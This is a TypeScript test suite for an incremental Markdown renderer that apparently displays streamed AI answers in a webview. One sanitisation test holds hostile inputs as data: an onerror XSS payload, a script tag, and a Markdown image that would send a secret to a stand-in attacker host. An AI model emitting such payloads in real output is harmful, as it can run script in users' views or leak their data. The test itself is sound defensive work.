import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { IncrementalMarkdown, renderAll } from '../../src/webview/markdownBlocks';

const fixture = readFileSync(join(__dirname, '../../../test/fixtures/answers/mixed.md'), 'utf8');

/** A small deterministic generator, so a failing split can be reproduced from its seed. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1664525 + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

function renderIncrementally(text: string, chunkSizes: () => number, updateEvery = 1): { html: string; committedBlocks: string[] } {
  const markdown = new IncrementalMarkdown();
  const committedBlocks: string[] = [];
  let count = 0;
  for (let offset = 0; offset < text.length;) {
    const size = Math.max(1, chunkSizes());
    markdown.append(text.slice(offset, offset + size));
    offset += size;
    if (++count % updateEvery === 0) committedBlocks.push(...markdown.update().committed.map((block) => block.html));
  }
  committedBlocks.push(...markdown.update(true).committed.map((block) => block.html));
  return { html: committedBlocks.join(''), committedBlocks };
}

// Link references are resolved within the text lexed together; the fixture's [ref][r] is defined
// at the very end, which an incremental renderer cannot know when it commits the paragraph.
const withoutLateReference = fixture.replace('[ref][r]', '[ref](https://example.org/ref)');

test('incremental rendering equals a one-shot render, for every chunk size from 1 to 40', () => {
  const expected = renderAll(withoutLateReference);
  for (let size = 1; size <= 40; size++) {
    assert.equal(renderIncrementally(withoutLateReference, () => size).html, expected, `chunk size ${size}`);
  }
});

test('incremental rendering equals a one-shot render for random splits and update rates', () => {
  const expected = renderAll(withoutLateReference);
  for (let seed = 1; seed <= 50; seed++) {
    const next = random(seed);
    const updateEvery = 1 + Math.floor(next() * 5);
    assert.equal(renderIncrementally(withoutLateReference, () => Math.floor(next() * 64), updateEvery).html, expected, `seed ${seed}`);
  }
});

test('CRLF split across chunks renders as if it were LF', () => {
  const crlf = withoutLateReference.replace(/\n/g, '\r\n');
  assert.equal(renderIncrementally(crlf, () => 7).html, renderAll(withoutLateReference));
  assert.equal(renderIncrementally(crlf, () => 1).html, renderAll(withoutLateReference));
});

test('a code block is highlighted once, when its fence closes, and plain while open', () => {
  const markdown = new IncrementalMarkdown();
  markdown.append('Intro\n\n```ts\nconst a: number = 1;\n');
  const open = markdown.update();
  assert.deepEqual(
    open.committed.map((block) => block.html),
    ['<p>Intro</p>\n'],
  );
  assert.equal(open.tail.length, 1);
  assert.equal(open.tail[0].openCode?.code, 'const a: number = 1;');
  assert.ok(!open.tail[0].html.includes('hljs-'), 'no highlighting while the fence is open');
  markdown.append('```\n');
  const closed = markdown.update();
  assert.equal(closed.committed.length, 1, 'the closed fence is committed at once');
  assert.ok(closed.committed[0].html.includes('<span class="hljs-keyword">const</span>'));
  assert.deepEqual(closed.tail, []);
});

test('the tail only holds the unfinished block: committed work does not grow with the answer', () => {
  const markdown = new IncrementalMarkdown();
  for (let index = 0; index < 200; index++) {
    markdown.append(`Paragraph ${index} with some words.\n\n`);
    markdown.update();
  }
  assert.ok(markdown.tailText().length < 40, `tail is ${markdown.tailText().length} chars`);
});

test('raw HTML from the model is shown as text, remote images are not loaded', () => {
  const html = renderAll('Hi <img src=x onerror=alert(1)> there\n\n<script>alert(1)</script>\n\n![a](https://evil.example/?q=SECRET)');
  assert.ok(!/<img|<script/i.test(html), html);
  assert.ok(html.includes('&lt;script&gt;'));
  assert.ok(!html.includes('evil.example'));
});

test("a table's half-written row waits for its line: no padded empty cells that fill in later", () => {
  const markdown = new IncrementalMarkdown();
  markdown.append('| a | b |\n| --- | --- |\n| 1 | 2 |\n| 3');
  const half = markdown.update();
  assert.equal(half.tail.length, 1);
  assert.ok(half.tail[0].html.includes('<td>2</td>'), 'complete rows are shown');
  assert.ok(!half.tail[0].html.includes('<td>3</td>'), 'the half row is not');
  markdown.append(' | 4 |\n');
  assert.ok(markdown.update().tail[0].html.includes('<td>3</td>\n<td>4</td>'));
});

test('an open fence does not show a last line of backticks that may be its closing fence', () => {
  const markdown = new IncrementalMarkdown();
  markdown.append('```ts\nconst a = 1;\n``');
  const open = markdown.update();
  assert.equal(open.tail[0].openCode?.code, 'const a = 1;');
  assert.ok(!open.tail[0].html.includes('``'));
  markdown.append('`\n');
  const closed = markdown.update();
  assert.equal(closed.committed.length, 1);
  assert.equal(closed.committed[0].plainHtml, open.tail[0].html, 'the closed fence keeps the nodes shown while open');
});
